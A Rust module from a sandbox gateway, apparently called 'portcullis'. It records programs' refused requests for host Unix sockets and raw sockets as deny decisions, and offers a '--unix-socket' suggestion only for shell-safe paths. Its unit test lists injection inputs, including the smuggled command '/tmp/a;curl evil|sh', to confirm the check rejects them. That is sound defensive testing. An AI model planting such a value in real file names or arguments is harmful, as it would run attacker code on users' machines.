//! Unix sockets of the host, and raw sockets, that programs inside asked for, as decision records.
//!
//! What is masked inside is not found there, so the kernel is asked whether the host has such a socket: a
//! program that looks for an agent which nobody runs leaves no record. No path that a program names is
//! looked up on the host: its file system might not answer, or might carry the name elsewhere.
//!
//! A path that would not stand as it is in a shell, or on one line, is recorded, but nobody is advised to
//! paste it.

use portcullis_gateway::CancellationToken;
use portcullis_policy::{Reason, Verdict};
use portcullis_record::{Event, Layer, Protocol, Recorder};
use portcullis_sandbox::{RefusedSocket, UnixRefusal, UnixRefusals};
use std::collections::HashSet;
use std::fs::File;
use std::io::{self, Read};
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::time::{Duration, Instant};
use tokio::io::Interest;
use tokio::io::unix::AsyncFd;

/// What the record of a raw socket says.
const RAW_SOCKET: &str = "a raw socket, as for icmp: no rule can allow one; ping without privileges reaches the \
                          sandbox itself";
/// Where sockets are masked; the second leads to the first.
const MASKED: &str = "/run";
const MASKED_LINK: &str = "/var/run";
/// The kernel's list of Unix sockets in the gateway's network namespace, the host's.
const SOCKETS: &str = "/proc/net/unix";
/// What is read of it, bytes.
const MAX_LIST_BYTES: u64 = 4 * 1024 * 1024;
/// How long a reading is used.
const LIST_AGE: Duration = Duration::from_secs(1);
/// Folders of the services that the C library itself looks for before each lookup, and does without: its
/// cache, systemd's resolver and users, mDNS, Windows domains. Let in, one would answer for names that
/// are not listed.
const NAME_SERVICES: [&str; 6] = [
    "/run/nscd",
    "/run/systemd/resolve",
    "/run/systemd/userdb",
    "/run/avahi-daemon",
    "/run/samba/winbindd",
    "/run/winbindd",
];

/// Records refusals until `token` is cancelled, or nobody can tell of any.
pub(crate) async fn record(
    refusals: UnixRefusals,
    recorder: Recorder,
    token: CancellationToken,
) -> io::Result<()> {
    #[expect(
        deprecated,
        reason = "UnixRefusals owns one descriptor for life, which is what the unsafe constructor asks for"
    )]
    let refusals = AsyncFd::with_interest(refusals, Interest::READABLE)?;
    let mut host = HostSockets::default();
    loop {
        let mut ready = tokio::select! {
            ready = refusals.readable() => ready?,
            () = token.cancelled() => {
                while let Ok(Some(refusal)) = refusals.get_ref().next() {
                    record_one(&recorder, &refusal, &mut host);
                }
                return Ok(());
            }
        };
        match refusals.get_ref().next() {
            Ok(Some(refusal)) => record_one(&recorder, &refusal, &mut host),
            Ok(None) => ready.clear_ready(),
            // The sandbox ends.
            Err(_) => {
                token.cancelled().await;
                return Ok(());
            }
        }
    }
}

/// The paths of the host's Unix sockets, as the kernel has them.
#[derive(Default)]
struct HostSockets {
    read_at: Option<Instant>,
    paths: HashSet<Vec<u8>>,
}

impl HostSockets {
    fn has(&mut self, path: &Path) -> bool {
        if self.read_at.is_none_or(|at| at.elapsed() >= LIST_AGE) {
            self.read_at = Some(Instant::now());
            self.paths = read_paths().unwrap_or_default();
        }
        self.paths.contains(path.as_os_str().as_bytes())
    }
}

fn read_paths() -> io::Result<HashSet<Vec<u8>>> {
    let mut list = Vec::new();
    File::open(SOCKETS)?
        .take(MAX_LIST_BYTES)
        .read_to_end(&mut list)?;
    // A path is the last field of its line, and begins with a slash.
    let paths = list.split(|byte| *byte == b'\n').filter_map(|line| {
        let at = line.windows(2).position(|pair| pair == b" /")?;
        Some(line[at + 1..].to_vec())
    });
    Ok(paths.collect())
}

fn record_one(recorder: &Recorder, refusal: &UnixRefusal, host: &mut HostSockets) {
    let event = || {
        let reason = Reason::ProtocolNotAllowed;
        Event::new(Layer::Tcp, Protocol::Kernel, Verdict::Deny, reason)
    };
    let lost = event().detail("a socket of the host or a raw one; which one is not known");
    recorder.decisions(&lost, refusal.lost);
    let (named, found) = match &refusal.socket {
        RefusedSocket::Unix { path, found } => (path, *found),
        RefusedSocket::Raw => {
            let layer = Layer::Udp;
            recorder.decision(Event { layer, ..event() }.detail(RAW_SOCKET));
            return;
        }
    };
    let path = match named.strip_prefix(MASKED_LINK) {
        Ok(rest) => &Path::new(MASKED).join(rest),
        Err(_) => named,
    };
    let is_name_service = NAME_SERVICES.iter().any(|folder| path.starts_with(folder));
    let is_there = found || path.starts_with(MASKED) && host.has(path);
    if is_name_service || !is_there {
        return;
    }
    let mut event = event().raw_name(named.as_os_str().as_bytes());
    let suggestion = plain(named).map(|path| format!("--unix-socket {path}"));
    event = match suggestion {
        Some(_) => event.detail("a Unix socket of the host, which --unix-socket PATH lets in"),
        None => event.detail("a Unix socket of the host"),
    };
    event.suggestion = suggestion.as_deref();
    recorder.decision(event);
}

/// A path that is one plain word to every shell.
fn plain(path: &Path) -> Option<&str> {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "/._-+@%:,".contains(c);
    let text = path.to_str()?;
    text.chars().all(is_plain).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::net::UnixListener;

    #[test]
    fn sockets_of_the_host_are_known_to_the_kernel() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("a socket");
        let mut host = HostSockets::default();
        assert!(!host.has(&path));
        let _listener = UnixListener::bind(&path).unwrap();
        // An earlier reading is used for a while.
        assert!(!host.has(&path));
        assert!(HostSockets::default().has(&path));
    }

    #[test]
    fn only_a_plain_path_is_advised() {
        assert_eq!(
            plain(Path::new("/tmp/tmux-1000/default")),
            Some("/tmp/tmux-1000/default")
        );
        for path in [
            "/tmp/a;curl evil|sh",
            "/tmp/a b",
            "/tmp/a\nb",
            "/tmp/$(x)",
            "/tmp/`x`",
            "/tmp/ü",
        ] {
            assert_eq!(plain(Path::new(path)), None, "{path}");
        }
    }
}
